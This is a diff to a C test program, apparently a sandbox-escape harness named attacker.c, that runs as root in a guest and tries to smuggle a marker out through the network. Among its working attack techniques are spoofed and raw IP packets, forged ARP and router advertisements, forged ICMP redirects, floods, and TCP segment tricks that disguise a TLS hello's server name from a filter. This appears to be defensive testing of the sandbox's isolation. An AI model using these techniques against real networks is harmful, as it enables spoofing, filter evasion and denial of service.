@@ -1,16 +1,22 @@
 /*
  * attacker TRY ARGUMENT...: one try to get MARK out of a cell, or into another place. Runs as root of a
  * guest. Prints what came back; whether anything got through is judged at the other end, where MARK is
- * looked for. Addresses are IPv4.
+ * looked for. Addresses are IPv4 (attacker6.c has the rest).
  *
  *   tcp ADDR PORT MARK              connect, send
  *   udp ADDR PORT MARK              one datagram
- *   dns ADDR udp|tcp NAME TYPE      a question; prints `rcode N`, then each address or `data N` octets
+ *   dns ADDR udp|tcp NAME TYPE      a question; prints `rcode N`, then each address or `data N` octets, then
+ *                                   `also ADDRESS` for those that nobody asked for
+ *   ask ADDR NAME TYPE              the same by UDP with EDNS; before them `ede CODE TEXT`, last `ms N`
  *   ip PROTO FROM TO TTL MARK       a raw IP packet: another address, ICMP (1), GRE (47), IPIP (4)...
  *   spoof FROM SPORT TO PORT MARK   a UDP datagram with another source
  *   route VIA TO PORT MARK          a UDP datagram to VIA with a loose source route to TO
  *   fragments TO PORT MARK          a UDP datagram whose ports are in another fragment than MARK
  *   frame FROMMAC FROM TO PORT MARK a UDP datagram in a frame of another MAC; to all, when TO ends in .255
+ *   desync KIND TO PORT NAME MARK   a connection, then by hand two hellos in its place: NAME's and MARK's, with
+ *                                   a bad checksum, overlapping, sent again otherwise, out of order
+ *   quote TO SRC SPORT DST DPORT MARK [5]  an ICMP error (or redirect) to TO that quotes a UDP packet of that flow
+ *   six MARK                        IPv6 UDP to all nodes and, by its link-local address, to the gateway
  *   ra MARK                         an IPv6 router advertisement to all nodes
  *   arp ADDR                        says to all that ADDR is here, and asks for it
  *   ttl TO N                        UDP with TTL 1..N; prints who answered
@@ -26,12 +32,14 @@
 #include <netinet/ip.h>
 #include <netinet/ip6.h>
 #include <netinet/ip_icmp.h>
+#include <netinet/tcp.h>
 #include <netinet/udp.h>
 #include <poll.h>
 #include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/ioctl.h>
 #include <sys/socket.h>
 #include <time.h>
 #include <unistd.h>
@@ -98,8 +106,8 @@ static size_t question(uint8_t *q, const char *name, int type)
 	size_t at_ = 12;
 
 	memset(q, 0, 12);
-	q[0] = (uint8_t)rand();
-	q[1] = (uint8_t)rand();
+	q[0] = (uint8_t)random();
+	q[1] = (uint8_t)random();
 	q[2] = 1;
 	q[5] = 1;
 	while (*name) {
@@ -120,17 +128,29 @@ static size_t question(uint8_t *q, const char *name, int type)
 static void answers(const uint8_t *m, size_t n, size_t at_)
 {
 	printf("rcode %d\n", m[3] & 15);
-	for (unsigned i = 0; i < (unsigned)(m[6] << 8 | m[7]) && at_ < n; i++) {
+	unsigned asked = (unsigned)(m[6] << 8 | m[7]),
+		 all = asked + (unsigned)(m[8] << 8 | m[9]) + (unsigned)(m[10] << 8 | m[11]);
+	for (unsigned i = 0; i < all && at_ < n; i++) {
 		while (at_ < n && m[at_] != 0 && m[at_] < 192)
 			at_ += m[at_] + 1U;
 		at_ += at_ < n && m[at_] == 0 ? 1 : 2;
 		if (at_ + 10 > n)
 			return;
-		unsigned type = (unsigned)(m[at_] << 8 | m[at_ + 1]), len = (unsigned)(m[at_ + 8] << 8 | m[at_ + 9]);
+		unsigned type = (unsigned)(m[at_] << 8 | m[at_ + 1]),
+			 len = (unsigned)(m[at_ + 8] << 8 | m[at_ + 9]);
 		at_ += 10;
 		if (type == 1 && len == 4 && at_ + 4 <= n)
-			printf("%u.%u.%u.%u\n", m[at_], m[at_ + 1], m[at_ + 2], m[at_ + 3]);
-		else
+			printf("%s%u.%u.%u.%u\n", i < asked ? "" : "also ", m[at_], m[at_ + 1], m[at_ + 2],
+			       m[at_ + 3]);
+		else if (type == 28 && len == 16 && at_ + 16 <= n) {
+			char text[INET6_ADDRSTRLEN];
+			printf("%s%s\n", i < asked ? "" : "also ",
+			       inet_ntop(AF_INET6, m + at_, text, sizeof(text)));
+		} else if (type == 41 && len >= 6 && at_ + len <= n && m[at_] == 0 &&
+			   m[at_ + 1] == 15) /* RFC 8914 */
+			printf("ede %u %.*s\n", (unsigned)(m[at_ + 4] << 8 | m[at_ + 5]), (int)len - 6,
+			       (const char *)m + at_ + 6);
+		else if (i < asked)
 			printf("data %u\n", len);
 		at_ += len;
 	}
@@ -139,7 +159,8 @@ static void answers(const uint8_t *m, size_t n, size_t at_)
 static int try_dns(char **a)
 {
 	struct sockaddr_in to = at(a[0], "53");
-	int tcp = strcmp(a[1], "tcp") == 0, fd = socket(AF_INET, (tcp ? SOCK_STREAM : SOCK_DGRAM) | SOCK_NONBLOCK, 0);
+	int tcp = strcmp(a[1], "tcp") == 0,
+	    fd = socket(AF_INET, (tcp ? SOCK_STREAM : SOCK_DGRAM) | SOCK_NONBLOCK, 0);
 	struct pollfd p = {fd, POLLOUT, 0};
 	uint8_t q[600], m[4096];
 	size_t n = question(q + 2, a[2], atoi(a[3]));
@@ -160,6 +181,31 @@ static int try_dns(char **a)
 	return 0;
 }
 
+static int try_ask(char **a)
+{
+	static const uint8_t opt[] = {0, 0, 41, 4, 208, 0, 0, 0, 0, 0, 0};
+	struct sockaddr_in to = at(a[0], "53");
+	int fd = socket(AF_INET, SOCK_DGRAM, 0);
+	struct pollfd p = {fd, POLLIN, 0};
+	struct timespec from, until;
+	uint8_t q[600], m[4096];
+	size_t n = question(q, a[1], atoi(a[2]));
+
+	q[11] = 1;
+	memcpy(q + n, opt, sizeof(opt));
+	clock_gettime(CLOCK_MONOTONIC, &from);
+	if (connect(fd, (struct sockaddr *)&to, sizeof(to)) < 0 || send(fd, q, n + sizeof(opt), 0) < 0 ||
+	    poll(&p, 1, 3000) != 1)
+		return 1;
+	ssize_t k = recv(fd, m, sizeof(m), 0);
+	clock_gettime(CLOCK_MONOTONIC, &until);
+	if (k < 14)
+		return 1;
+	answers(m, (size_t)k, n);
+	printf("ms %ld\n", (until.tv_sec - from.tv_sec) * 1000 + (until.tv_nsec - from.tv_nsec) / 1000000);
+	return 0;
+}
+
 /* --- packets ----------------------------------------------------------------------------------- */
 
 static size_t ip_head(uint8_t *p, int proto, const char *from, const char *to, int ttl, size_t payload)
@@ -167,7 +213,7 @@ static size_t ip_head(uint8_t *p, int proto, const char *from, const char *to, i
 	struct iphdr ip = {.version = 4, .ihl = 5, .ttl = (uint8_t)ttl, .protocol = (uint8_t)proto};
 
 	ip.tot_len = htons((uint16_t)(20 + payload));
-	ip.id = htons((uint16_t)rand());
+	ip.id = htons((uint16_t)random());
 	ip.saddr = at(from, "0").sin_addr.s_addr;
 	ip.daddr = at(to, "0").sin_addr.s_addr;
 	memcpy(p, &ip, 20);
@@ -265,7 +311,7 @@ static int try_fragments(char **a)
 
 	(void)snprintf(text, sizeof(text), "%-24.24s%s", "..", a[2]);
 	size_t n = udp_put(all, 4444, atoi(a[1]), text);
-	uint16_t id = (uint16_t)rand();
+	uint16_t id = (uint16_t)random();
 	/* the last first: it has no ports at all */
 	for (int i = 1; i >= 0; i--) {
 		size_t from = i ? 16 : 0, len = i ? n - 16 : 16;
@@ -286,7 +332,8 @@ static int try_fragments(char **a)
 
 static int frame_send(const uint8_t *frame, size_t n)
 {
-	struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex("eth0"), .sll_halen = 6};
+	struct sockaddr_ll to = {
+		.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex("eth0"), .sll_halen = 6};
 	int fd = socket(AF_PACKET, SOCK_RAW, 0);
 
 	if (fd < 0 || sendto(fd, frame, n, 0, (struct sockaddr *)&to, sizeof(to)) < 0) {
@@ -308,17 +355,14 @@ static size_t eth(uint8_t *f, const uint8_t to[6], const uint8_t from[6], int ty
 /* the gateway's MAC is the guest's with a 1 (net/link.c) */
 static void macs(uint8_t me[6], uint8_t gateway[6])
 {
-	FILE *f = fopen("/sys/class/net/eth0/address", "r");
-	unsigned m[6] = {0};
 	struct in_addr a = at(my_addr(), "0").sin_addr;
+	struct ifreq ifr = {.ifr_name = "eth0"};
 	uint32_t h = ntohl(a.s_addr);
+	int fd = socket(AF_PACKET, SOCK_RAW, 0);
 
-	if (f) {
-		(void)!fscanf(f, "%x:%x:%x:%x:%x:%x", &m[0], &m[1], &m[2], &m[3], &m[4], &m[5]);
-		(void)fclose(f);
-	}
-	for (int i = 0; i < 6; i++)
-		me[i] = (uint8_t)m[i];
+	(void)ioctl(fd, SIOCGIFHWADDR, &ifr);
+	close(fd);
+	memcpy(me, ifr.ifr_hwaddr.sa_data, 6);
 	memcpy(gateway, (uint8_t[]){2, 1, 0, 0, (uint8_t)(h >> 8), (uint8_t)h}, 6);
 }
 
@@ -349,7 +393,8 @@ static int try_ra(char **a)
 
 	macs(me, gw);
 	size_t n = eth(f, all, me, ETH_P_IPV6);
-	struct ip6_hdr ip = {.ip6_nxt = IPPROTO_ICMPV6, .ip6_hlim = 255, .ip6_plen = htons((uint16_t)(16 + mark))};
+	struct ip6_hdr ip = {
+		.ip6_nxt = IPPROTO_ICMPV6, .ip6_hlim = 255, .ip6_plen = htons((uint16_t)(16 + mark))};
 	ip.ip6_vfc = 0x60;
 	(void)inet_pton(AF_INET6, "fe80::1", &ip.ip6_src);
 	(void)inet_pton(AF_INET6, "ff02::1", &ip.ip6_dst);
@@ -360,9 +405,175 @@ static int try_ra(char **a)
 	ra[6] = 7; /* lifetime 0x708 */
 	ra[7] = 8;
 	memcpy(ra + 16, a[0], mark);
-	uint16_t c = sum(ra, 16 + mark, (uint32_t)(16 + mark) + IPPROTO_ICMPV6 + (0xffffU & (uint16_t)~ntohs(sum(f + n + 8, 32, 0))));
+	uint16_t c = sum(ra, 16 + mark,
+			 (uint32_t)(16 + mark) + IPPROTO_ICMPV6 +
+				 (0xffffU & (uint16_t)~ntohs(sum(f + n + 8, 32, 0))));
 	memcpy(ra + 2, &c, 2);
 	return frame_send(f, n + 56 + mark);
+}
+
+static int try_six(char **a)
+{
+	uint8_t f[300] = {0}, me[6], gw[6];
+	size_t mark = strlen(a[0]);
+	int r = 0;
+
+	macs(me, gw);
+	for (int i = 0; i < 2; i++) {
+		static const uint8_t all[6] = {0x33, 0x33, 0, 0, 0, 1};
+		size_t n = eth(f, i ? gw : all, me, ETH_P_IPV6);
+		struct ip6_hdr ip = {
+			.ip6_nxt = IPPROTO_UDP, .ip6_hlim = 255, .ip6_plen = htons((uint16_t)(8 + mark))};
+		ip.ip6_vfc = 0x60;
+		(void)inet_pton(AF_INET6, "fe80::1", &ip.ip6_src);
+		(void)inet_pton(AF_INET6, i ? "fe80::2" : "ff02::1", &ip.ip6_dst);
+		memcpy(f + n, &ip, 40);
+		udp_put(f + n + 40, 4444, 4444, a[0]);
+		r |= frame_send(f, n + 48 + mark);
+	}
+	return r;
+}
+
+/* An error of type 3, code 4 (or of the type that is said): the quoted packet's octets after its head are MARK. */
+static int quote(char **a, uint8_t type)
+{
+	uint8_t p[1600] = {0};
+	size_t u = udp_put(p + 48, atoi(a[2]), atoi(a[4]), a[5]);
+
+	p[20] = type;
+	p[21] = type == ICMP_DEST_UNREACH ? ICMP_FRAG_NEEDED : ICMP_REDIR_HOST;
+	p[26] = 2; /* an MTU of 512 */
+	ip_head(p + 28, IPPROTO_UDP, a[1], a[3], 63, u);
+	uint16_t c = sum(p + 20, 28 + u, 0);
+	memcpy(p + 22, &c, 2);
+	ip_head(p, IPPROTO_ICMP, my_addr(), a[0], 64, 28 + u);
+	return raw_send(p, 48 + u, a[0]);
+}
+
+static int try_quote(char **a)
+{
+	return quote(a, ICMP_DEST_UNREACH);
+}
+
+static int try_redirect(char **a)
+{
+	return quote(a, (uint8_t)atoi(a[6]));
+}
+
+/* A TLS 1.2 hello with a name: as short as servers take it. */
+static size_t hello_put(uint8_t *p, const char *name)
+{
+	size_t n = strlen(name), ext = n + 9 + 10, body = 2 + 32 + 1 + 4 + 2 + 2 + ext;
+	uint8_t *at_ = p;
+#define PUT16(x) (*at_++ = (uint8_t)((x) >> 8), *at_++ = (uint8_t)(x))
+	*at_++ = 22;
+	PUT16(0x301);
+	PUT16(body + 4);
+	*at_++ = 1;
+	*at_++ = 0;
+	PUT16(body);
+	PUT16(0x303);
+	memset(at_, 'r', 32);
+	at_ += 32;
+	*at_++ = 0;
+	PUT16(2);
+	PUT16(0xc02b);
+	*at_++ = 1;
+	*at_++ = 0;
+	PUT16(ext);
+	PUT16(0);
+	PUT16(n + 5);
+	PUT16(n + 3);
+	*at_++ = 0;
+	PUT16(n);
+	memcpy(at_, name, n);
+	at_ += n;
+	PUT16(10); /* groups: P-256 */
+	PUT16(4);
+	PUT16(2);
+	PUT16(23);
+	PUT16(0xff01); /* no renegotiation */
+	*at_++ = 0;
+	*at_++ = 0;
+	return (size_t)(at_ - p);
+}
+
+struct flow {
+	struct sockaddr_in to;
+	uint16_t sport;
+	uint32_t seq, ack;
+};
+
+static int segment(const struct flow *f, uint32_t seq, const uint8_t *data, size_t n, int bad)
+{
+	uint8_t p[1600] = {0};
+	struct tcphdr t = {.source = f->sport,
+			   .dest = f->to.sin_port,
+			   .seq = htonl(seq),
+			   .ack_seq = htonl(f->ack),
+			   .doff = 5,
+			   .ack = 1,
+			   .psh = 1,
+			   .window = htons(60000)};
+
+	ip_head(p, IPPROTO_TCP, my_addr(), inet_ntoa(f->to.sin_addr), 64, 20 + n);
+	memcpy(p + 20, &t, 20);
+	memcpy(p + 40, data, n);
+	/* the pseudo header's sum: the addresses, the protocol, the length */
+	uint16_t c = sum(p + 20, 20 + n,
+			 (uint32_t)(uint16_t)~ntohs(sum(p + 12, 8, 0)) + 6 + 20 + (uint32_t)n);
+	c = (uint16_t)(c ^ (bad ? 0x5a5a : 0));
+	memcpy(p + 36, &c, 2);
+	return raw_send(p, 40 + n, inet_ntoa(f->to.sin_addr));
+}
+
+static int try_desync(char **a)
+{
+	uint8_t good[600], evil[600], buf[2048];
+	struct flow f = {.to = at(a[1], a[2])};
+	struct sockaddr_in me;
+	socklen_t len = sizeof(me);
+	int raw = socket(AF_INET, SOCK_RAW, IPPROTO_TCP),
+	    fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
+	struct pollfd p = {raw, POLLIN, 0}, q = {fd, POLLIN, 0};
+	char pad[300];
+
+	/* of one length, so that one takes the other's place */
+	(void)snprintf(pad, sizeof(pad), "%s", a[3]);
+	size_t n = hello_put(good, pad), m = hello_put(evil, a[4]);
+	if (raw < 0 || (connect(fd, (struct sockaddr *)&f.to, sizeof(f.to)) < 0 && errno != EINPROGRESS))
+		return 1;
+	(void)getsockname(fd, (struct sockaddr *)&me, &len);
+	f.sport = me.sin_port;
+	for (;;) {
+		ssize_t k = poll(&p, 1, 1000) == 1 ? recv(raw, buf, sizeof(buf), 0) : -1;
+		struct tcphdr t;
+		if (k <= 0)
+			return 1;
+		if (k < 40)
+			continue;
+		memcpy(&t, buf + (size_t)(buf[0] & 15) * 4, 20);
+		if (t.dest != f.sport || !t.syn || !t.ack)
+			continue;
+		f.seq = ntohl(t.ack_seq);
+		f.ack = ntohl(t.seq) + 1;
+		break;
+	}
+	if (strcmp(a[0], "checksum") == 0) {
+		segment(&f, f.seq, good, n, 1);
+		segment(&f, f.seq, evil, m, 0);
+	} else if (strcmp(a[0], "overlap") == 0) {
+		segment(&f, f.seq + 20, good + 20, n - 20, 0);
+		segment(&f, f.seq, evil, m, 0);
+	} else if (strcmp(a[0], "again") == 0) {
+		segment(&f, f.seq, evil, m, 0);
+		segment(&f, f.seq, good, n, 0);
+	} else {
+		segment(&f, f.seq + 5, evil + 5, m - 5, 0);
+		segment(&f, f.seq + 5, good + 5, n - 5, 0);
+		segment(&f, f.seq, evil, 5, 0);
+	}
+	return !(poll(&q, 1, 1000) == 1 && recv(fd, buf, sizeof(buf), 0) > 0);
 }
 
 static int try_arp(char **a)
@@ -409,7 +620,8 @@ static int try_ttl(char **a)
 		(void)setsockopt(u, IPPROTO_IP, IP_TTL, &ttl, sizeof(ttl));
 		(void)sendto(u, "t", 1, 0, (struct sockaddr *)&to, sizeof(to));
 		close(u);
-		while (poll(&p, 1, 400) == 1 && recvfrom(fd, buf, sizeof(buf), 0, (struct sockaddr *)&from, &len) > 0)
+		while (poll(&p, 1, 400) == 1 &&
+		       recvfrom(fd, buf, sizeof(buf), 0, (struct sockaddr *)&from, &len) > 0)
 			if (buf[20] == ICMP_TIME_EXCEEDED) {
 				puts(inet_ntoa(from.sin_addr));
 				got = 1;
@@ -459,14 +671,18 @@ int main(int argc, char **argv)
 		const char *name;
 		int n, (*run)(char **a);
 	} tries[] = {
-		{"tcp", 3, try_tcp},	     {"udp", 3, try_udp},     {"dns", 4, try_dns},
-		{"ip", 5, try_ip},	     {"spoof", 5, try_spoof}, {"route", 4, try_route},
-		{"fragments", 3, try_fragments}, {"frame", 5, try_frame}, {"ra", 1, try_ra},
-		{"arp", 1, try_arp},	     {"ttl", 2, try_ttl},     {"flood", 3, try_flood},
-		{"dnsflood", 2, try_dnsflood},
+		{"tcp", 3, try_tcp},     {"udp", 3, try_udp},
+		{"dns", 4, try_dns},     {"ask", 3, try_ask},
+		{"ip", 5, try_ip},       {"spoof", 5, try_spoof},
+		{"route", 4, try_route}, {"fragments", 3, try_fragments},
+		{"frame", 5, try_frame}, {"desync", 5, try_desync},
+		{"quote", 6, try_quote}, {"quote", 7, try_redirect},
+		{"six", 1, try_six},     {"ra", 1, try_ra},
+		{"arp", 1, try_arp},     {"ttl", 2, try_ttl},
+		{"flood", 3, try_flood}, {"dnsflood", 2, try_dnsflood},
 	};
 
-	srand((unsigned)getpid());
+	srandom((unsigned)getpid());
 	for (size_t i = 0; argc > 1 && i < sizeof(tries) / sizeof(tries[0]); i++)
 		if (strcmp(argv[1], tries[i].name) == 0 && argc == tries[i].n + 2)
 			return tries[i].run(argv + 2);
